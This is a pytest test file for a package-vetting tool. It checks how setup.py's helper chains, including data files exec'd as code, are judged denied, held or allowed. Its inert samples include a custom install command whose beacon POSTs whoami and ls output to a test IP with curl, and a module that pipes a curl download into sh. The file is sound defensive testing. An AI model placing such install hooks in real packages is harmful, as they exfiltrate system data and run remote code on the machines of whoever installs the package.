"""Code setup.py reaches through its own helpers (ADR 0151; ``bench/mutate_vet.py``'s
``second_module`` and ``data_file`` rewrites).

* A root-level module that one of setup.py's helpers imports runs on install too: what it
  does holds (reached only through another helper, so it is not denied outright: build
  helpers do run compilers and downloads).
* A file setup.py runs as its own code (``exec(open('data.txt').read())``) imports for
  setup.py: those modules are setup.py's helpers, at full weight.

Each sample is inert (vetting only reads files). The near-misses are what real build
helpers do."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import (
    GIT_VERSION,
    SYS_PATH_LOADER,
    verdict_cases,
    vet_package,
)

BEACON = (
    "import subprocess\n"
    "def pre_install():\n"
    '    subprocess.run(\'curl -X POST -H "Whoami: $(whoami)" -d "$(ls -la)"'
    " https://203.0.113.5/c', shell=True)\n"
)
INSTALL_COMMAND = (
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n"
    "from pre_install import pre_install\n"
    "class CustomInstall(install):\n"
    "    def run(self):\n"
    "        pre_install()\n"
    "        super().run()\n"
    "setup(name='evpkg', version='1.0', packages=['evpkg'],"
    " cmdclass={'install': CustomInstall})\n"
)
EXEC_DATA = (
    "import os\n"
    "with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'data.txt')) as _f:\n"
    "    exec(compile(_f.read(), __file__, 'exec'))\n"
)

DENIED: dict[str, dict[str, str]] = {
    "setup-text-kept-in-a-data-file-whose-install-command-calls-a-beacon": {
        "setup.py": EXEC_DATA,
        "data.txt": INSTALL_COMMAND,
        "pre_install.py": BEACON,
        "evpkg/__init__.py": "",
    },
    "setup-text-in-a-python-file-whose-install-command-calls-a-beacon": {
        "setup.py": EXEC_DATA.replace("data.txt", "_setup_body.py"),
        "_setup_body.py": INSTALL_COMMAND,
        "pre_install.py": BEACON,
        "evpkg/__init__.py": "",
    },
    # Its own pass reads it as a module run on import, as before: the install-time reading
    # added for a module two helpers away does not lower that one.
    "module-two-helpers-away-runs-a-download-on-import": {
        "setup.py": "import _build\n",
        "_build.py": "import _steps\n",
        "_steps.py": "import os\nos.system('curl -s http://203.0.113.5/x | sh')\n",
        "evpkg/__init__.py": "",
    },
}

HELD: dict[str, dict[str, str]] = {
    "setup-imports-an-impl-whose-install-command-calls-a-beacon": {
        "setup.py": SYS_PATH_LOADER + "import _setup_impl\n",
        "_setup_impl.py": INSTALL_COMMAND,
        "pre_install.py": BEACON,
        "evpkg/__init__.py": "",
    },
    "beacon-two-helpers-away": {
        "setup.py": SYS_PATH_LOADER + "from _build import main\nmain()\n",
        "_build.py": "import _steps\ndef main():\n    _steps.go()\n",
        "_steps.py": "from pre_install import pre_install\ndef go():\n    pre_install()\n",
        "pre_install.py": BEACON,
        "evpkg/__init__.py": "",
    },
}


ALLOWED: dict[str, dict[str, str]] = {
    # A data file run as code holds on its own (ADR 0032); a Python file does not.
    "setup-text-in-a-python-file-reading-the-git-version-through-a-helper": {
        "setup.py": EXEC_DATA.replace("data.txt", "_setup_body.py"),
        "_setup_body.py": (
            "from setuptools import setup\nfrom _version import get_version\n"
            "setup(name='evpkg', version=get_version(), packages=['evpkg'])\n"
        ),
        "_version.py": GIT_VERSION,
        "evpkg/__init__.py": "",
    },
    "build-helper-two-away-runs-the-compiler-check": {
        "setup.py": "import _build\n",
        "_build.py": (
            "from setuptools import setup\nfrom _checks import has_openmp\n"
            "setup(name='evpkg', packages=['evpkg'], zip_safe=not has_openmp())\n"
        ),
        "_checks.py": "from _compile import try_compile\n"
        "def has_openmp():\n    return try_compile('int main(void){return 0;}')\n",
        "_compile.py": (
            "import os, subprocess, tempfile\n"
            "def try_compile(code):\n"
            "    with tempfile.TemporaryDirectory() as d:\n"
            "        src = os.path.join(d, 't.c')\n"
            "        with open(src, 'w') as f:\n"
            "            f.write(code)\n"
            "        out = os.path.join(d, 't')\n"
            "        return subprocess.call(['cc', '-fopenmp', src, '-o', out]) == 0\n"
        ),
        "evpkg/__init__.py": "",
    },
    "build-helper-two-away-downloads-and-unpacks-a-source-tarball": {
        "setup.py": "import _build\n",
        "_build.py": (
            "from setuptools import setup\nfrom _vendor import fetch\nfetch()\n"
            "setup(name='evpkg', packages=['evpkg'])\n"
        ),
        "_vendor.py": "from _download import get\ndef fetch():\n    get('libfoo-1.2.tar.gz')\n",
        "_download.py": (
            "import tarfile, urllib.request\n"
            "def get(name):\n"
            "    url = 'https://downloads.example.org/' + name\n"
            "    path, _ = urllib.request.urlretrieve(url, name)\n"
            "    with tarfile.open(path) as t:\n"
            "        t.extractall('build/deps', filter='data')\n"
        ),
        "evpkg/__init__.py": "",
    },
    "version-module-exec-d-by-setup-imports-nothing-local": {
        "setup.py": (
            "import os\nfrom setuptools import setup\nns = {}\n"
            "exec(open(os.path.join('evpkg', '_version.py')).read(), ns)\n"
            "setup(name='evpkg', version=ns['__version__'], packages=['evpkg'])\n"
        ),
        "evpkg/_version.py": "import sys\n__version__ = '1.0'\n",
        "evpkg/__init__.py": "",
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_helper_chain(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
